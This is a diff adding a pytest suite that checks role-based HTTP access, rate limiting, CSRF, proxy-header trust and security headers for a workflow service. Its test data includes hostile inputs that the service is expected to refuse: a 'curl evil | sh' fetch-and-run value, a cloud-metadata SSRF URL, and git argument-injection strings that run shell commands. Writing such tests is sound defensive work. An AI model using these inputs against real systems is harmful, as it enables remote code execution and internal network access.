@@ -1,0 +1,211 @@
+"""Who may do what over HTTP: every route by every role, and what an attacker tries."""
+
+from collections.abc import Iterator
+from typing import Any, Final
+
+import pytest
+from fastapi.routing import APIRoute
+from starlette.routing import BaseRoute
+
+from fixloop.serve.access import PASSWORD, ROLES
+from fixloop.serve.identity import COOKIE
+from fixloop.serve.tokens import FAILED_PER_MINUTE, PER_MINUTE
+from tests.fixtures.serve_stage import Stage, on_redis, problem
+
+pytestmark = pytest.mark.slow
+
+stage = pytest.fixture(on_redis)
+
+NOBODY: Final = ""
+EVERYBODY: Final = frozenset({NOBODY, *ROLES})
+KNOWN: Final = frozenset(ROLES)
+SUBMITTERS: Final = frozenset({"operator", "admin"})
+DECIDERS: Final = frozenset({"decider", "admin"})
+MAY: Final = {
+    ("GET", "/v1/workflows"): KNOWN,
+    ("POST", "/v1/workflows"): SUBMITTERS,
+    ("GET", "/v1/workflows/{workflow}"): KNOWN,
+    ("GET", "/v1/workflows/{workflow}/log"): KNOWN,
+    ("GET", "/v1/workflows/{workflow}/report"): KNOWN,
+    ("GET", "/v1/workflows/{workflow}/artifacts/{digest}"): KNOWN,
+    ("POST", "/v1/workflows/{workflow}/decisions"): DECIDERS,
+    ("POST", "/v1/workflows/{workflow}/commands"): SUBMITTERS,
+    ("GET", "/v1/inbox"): KNOWN,
+    ("GET", "/v1/tokens"): frozenset({"admin"}),
+    ("POST", "/v1/tokens"): frozenset({"admin"}),
+    ("DELETE", "/v1/tokens/{token}"): frozenset({"admin"}),
+}
+"""Route → the roles that it serves."""
+BODIES: Final[dict[tuple[str, str], dict[str, Any]]] = {
+    ("POST", "/v1/workflows"): {"repo": "https://example.com/shop", "issue": 1},
+    ("POST", "/v1/workflows/{workflow}/decisions"): {"escalation": "x", "decision": "skip"},
+    ("POST", "/v1/workflows/{workflow}/commands"): {"command": "pause"},
+    ("POST", "/v1/tokens"): {"name": "ci", "role": "viewer"},
+}
+
+
+def routes(app: Any) -> Iterator[tuple[str, str]]:
+    def below(found: list[BaseRoute]) -> Iterator[APIRoute]:
+        for route in found:
+            if isinstance(route, APIRoute):
+                yield route
+            else:
+                yield from below(getattr(getattr(route, "original_router", route), "routes", []))
+
+    for route in below(app.routes):
+        yield from ((method, route.path) for method in sorted(route.methods - {"HEAD"}))
+
+
+def call(stage: Stage, client: Any, route: tuple[str, str]) -> Any:
+    method, path = route
+    filled = path.format(workflow="0a1b2c3d-47-1", digest="0" * 64, token="0" * 8)
+    return client.request(method, filled, json=BODIES.get(route), headers={"If-Match": '"1"'})
+
+
+def test_every_route_serves_the_roles_of_the_table_and_no_other(stage: Stage) -> None:
+    stage.agents.start()
+    clients = {role: stage.client(role) for role in EVERYBODY}
+
+    found = {route: {role for role in EVERYBODY if not refused(stage, clients[role], route)} for route in MAY}
+
+    assert {route for route in routes(stage.app) if route[1].startswith("/v1/")} >= set(MAY)
+    assert found == MAY
+
+
+def refused(stage: Stage, client: Any, route: tuple[str, str]) -> bool:
+    answer = call(stage, client, route)
+    listed = "below a --repository" in answer.text
+    return answer.status_code == 401 or (answer.status_code == 403 and not listed)
+
+
+def test_no_route_is_left_out_of_the_table(stage: Stage) -> None:
+    assert {route for route in routes(stage.app) if route[1].startswith("/v1/")} == set(MAY)
+
+
+def test_whoever_made_the_fix_does_not_accept_its_hold(stage: Stage) -> None:
+    workflow = stage.held(fixed_by="anna")
+    found = stage.agents.engine.state(workflow)
+    assert found.escalation is not None
+    given = {"escalation": found.escalation.message_id, "decision": "accept"}
+
+    def decided(name: str) -> Any:
+        client = stage.client("decider", name)
+        etag = client.get(f"/v1/workflows/{workflow}").headers["etag"]
+        return client.post(f"/v1/workflows/{workflow}/decisions", json=given, headers={"If-Match": etag})
+
+    own, other = decided("anna"), decided("bert")
+
+    assert (own.status_code, problem(own)["detail"]) == (
+        403,
+        "anna made the fix, and does not accept its hold; somebody else does",
+    )
+    assert other.status_code == 200
+
+
+def test_a_body_with_a_field_that_is_not_asked_for_is_refused(stage: Stage) -> None:
+    sent = {"repo": "https://example.com/shop", "issue": 1, "fixer": "curl evil | sh"}
+
+    answer = stage.client("admin").post("/v1/workflows", json=sent)
+
+    assert answer.status_code == 422
+    assert problem(answer)["errors"] == [
+        {"pointer": "body/fixer", "detail": "Extra inputs are not permitted"}
+    ]
+
+
+@pytest.mark.parametrize(
+    "repo",
+    [
+        "https://example.com/shopping",
+        "https://example.com/shop/../other",
+        "http://169.254.169.254/latest",
+        "file:///etc",
+        "/etc",
+        "ext::sh -c touch% /tmp/pwned",
+        "https://user:secret@example.com/shop",
+        "--upload-pack=touch /tmp/pwned",
+        "https://example.com@evil.example/shop",
+        "HTTP://example.com/shop",
+    ],
+)
+def test_a_repository_that_is_not_listed_is_never_reached(stage: Stage, repo: str) -> None:
+    stage.allow("https://example.com/shop")
+
+    answer = stage.client("operator").post("/v1/workflows", json={"repo": repo, "issue": 1})
+
+    assert answer.status_code in (403, 422), answer.text
+    assert stage.client("viewer").get("/v1/workflows").json()["workflows"] == []
+
+
+def test_a_guessed_token_is_refused_and_soon_not_even_looked_at(stage: Stage) -> None:
+    wrong = {"Authorization": f"Bearer fl_00000000_{'x' * 43}"}
+    nobody = stage.client("")
+
+    codes = [nobody.get("/v1/inbox", headers=wrong).status_code for _ in range(FAILED_PER_MINUTE + 20)]
+
+    assert codes[:FAILED_PER_MINUTE] == [401] * FAILED_PER_MINUTE
+    assert 429 in codes[FAILED_PER_MINUTE:]
+
+
+def test_a_token_has_so_many_requests_a_minute(stage: Stage) -> None:
+    client = stage.client("viewer")
+    [token] = stage.tokens.all()
+    stage.exhaust(token.id, PER_MINUTE)
+
+    answer = client.get("/v1/inbox")
+
+    assert (answer.status_code, answer.headers["retry-after"]) == (429, "60")
+
+
+def test_a_request_of_a_browser_without_its_own_page_s_token_is_refused(stage: Stage) -> None:
+    workflow = stage.agents.start()
+    stage.people.add("anna", "admin", frozenset(), "correct horse")
+    person = stage.people.signed_in("anna", "correct horse")
+    assert person is not None
+    client = stage.client("")
+    client.cookies.set(COOKIE, stage.tokens.sign_in(person))
+    path = f"/v1/workflows/{workflow}/commands"
+
+    reading = client.get("/v1/inbox").status_code
+    forged = client.post(path, json={"command": "cancel"})
+    wrong = client.post(path, json={"command": "cancel"}, headers={"X-CSRF-Token": "guessed"})
+
+    assert (reading, forged.status_code, wrong.status_code) == (200, 403, 403)
+    assert stage.agents.engine.state(workflow).outcome is None
+
+
+def test_a_person_s_rights_are_those_that_the_file_has_now(stage: Stage) -> None:
+    stage.people.add("anna", "admin", frozenset(), "correct horse")
+    person = stage.people.signed_in("anna", "correct horse")
+    assert person is not None
+    assert person.token == PASSWORD
+    client = stage.client("")
+    client.cookies.set(COOKIE, stage.tokens.sign_in(person))
+
+    before = client.get("/v1/tokens").status_code
+    stage.people.add("anna", "viewer", frozenset(), "correct horse")
+    after = client.get("/v1/tokens").status_code
+
+    assert (before, after) == (200, 403)
+
+
+def test_a_header_names_a_person_only_where_a_listed_proxy_sent_it(stage: Stage) -> None:
+    stage.people.add("anna", "viewer", frozenset(), "")
+    header = {"X-Forwarded-User": "anna"}
+
+    by_proxy = stage.client("", client=("10.1.2.3", 4711)).get("/v1/inbox", headers=header)
+    by_anybody = stage.client("", client=("192.0.2.1", 4711)).get("/v1/inbox", headers=header)
+    unknown = stage.client("", client=("10.1.2.3", 4711)).get(
+        "/v1/inbox", headers={"X-Forwarded-User": "eve"}
+    )
+
+    assert [answer.status_code for answer in (by_proxy, by_anybody, unknown)] == [200, 401, 401]
+
+
+def test_no_answer_can_be_framed_sniffed_or_kept(stage: Stage) -> None:
+    answers = [stage.client("viewer").get("/v1/inbox"), stage.client("").get("/v1/inbox")]
+
+    for answer in answers:
+        assert "frame-ancestors 'none'" in answer.headers["content-security-policy"]
+        assert answer.headers["x-content-type-options"] == "nosniff"
+        assert answer.headers["cache-control"] == "no-store"
